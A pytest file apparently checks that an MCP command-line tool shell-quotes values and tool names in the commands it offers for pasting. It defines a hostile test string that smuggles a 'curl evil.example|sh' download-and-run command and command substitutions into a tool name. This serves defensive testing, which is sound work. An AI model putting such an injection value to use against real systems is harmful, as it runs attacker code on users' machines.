"""What is offered for pasting into a shell: whatever stands in it that somebody else chose is one word there."""

from __future__ import annotations

import ast
import re
import shlex
from pathlib import Path

import pytest

from server.cli import COMMANDS
from server.cli.terminal import CliError
from server.cli.use import tools
from server.client.typed_arguments import usage

ROOT = Path(__file__).parents[2]
URL = "http://127.0.0.1:8420/mcp"
HOSTILE = "x';curl evil.example|sh;'$(id)`id`"
VALUE = "\0"  # stands for a value in the text of an f-string
# A command with what may stand before a value of it: `ostiary login `, `ostiary mcp add VALUE `, `chmod 600 `.
COMMAND = re.compile(
    rf"\b(?:ostiary (?:{'|'.join(COMMANDS)})|chmod|fuser) (?:[a-z0-9+=\0-]+ )*(?:--[a-z-]+=)?$"
)
# Ports are numbers, and no others' words.
NUMBERS = frozenset({"server/transport/http/sockets.py"})


def bare_values(tree: ast.AST) -> list[int]:
    """The lines on which a value is put into a command without being quoted."""
    found: list[int] = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.JoinedStr):
            continue
        before = ""
        for part in node.values:
            if isinstance(part, ast.FormattedValue):
                if COMMAND.search(before) and not is_quoted(part.value):
                    found.append(part.lineno)
                before += VALUE
            elif isinstance(part, ast.Constant):
                before += str(part.value)
    return found


def is_quoted(value: ast.expr) -> bool:
    match value:
        case ast.Call(func=ast.Name(id="quote" | "join")):
            return True
        case ast.IfExp(body=ast.Constant(), orelse=ast.Constant()):
            return True
        case _:
            return False


def test_no_command_is_written_with_a_value_that_is_not_quoted() -> None:
    files = [path for top in ("auth", "server") for path in sorted((ROOT / top).rglob("*.py"))]
    names = {path: path.relative_to(ROOT).as_posix() for path in files}
    found = [
        f"{names[path]}:{line}"
        for path in files
        if names[path] not in NUMBERS
        for line in bare_values(ast.parse(path.read_text("utf-8")))
    ]
    assert found == []


@pytest.mark.parametrize(
    ("code", "is_bare"),
    [
        ("f'ostiary login {url}'", True),
        ("f'log in: ostiary mcp add {quote(name)} {url} --replace'", True),
        ("f'chmod 600 {path}'", True),
        ("f'ostiary login {quote(url)} --scope {quote(scope)}'", False),
        ("f'ostiary {version} is served at {url}'", False),
    ],
)
def test_the_look_for_values_sees_them(code: str, is_bare: bool) -> None:
    assert bool(bare_values(ast.parse(code))) == is_bare


def test_a_tool_is_offered_by_a_name_that_the_shell_takes_for_one_word(
    capsys: pytest.CaptureFixture[str],
) -> None:
    schema = {"type": "object", "properties": {HOSTILE: {"type": "string"}}, "required": [HOSTILE]}
    tools._show_one({"name": HOSTILE, "inputSchema": schema}, URL)  # pyright: ignore[reportPrivateUsage]
    hint = capsys.readouterr().err.removeprefix("hint: ")
    assert shlex.split(hint) == ["ostiary", "call", URL, HOSTILE, f"{HOSTILE}=…"]


def test_the_nearest_name_and_the_arguments_of_a_tool_are_quoted_too() -> None:
    with pytest.raises(CliError, match="has no tool") as refused:
        tools.pick([{"name": HOSTILE}], HOSTILE[:-1], URL)
    assert refused.value.hint == f"did you mean {shlex.quote(HOSTILE)}?"
    assert shlex.quote("a;b") in usage({"name": "t", "inputSchema": {"properties": {"a;b": {}}}})
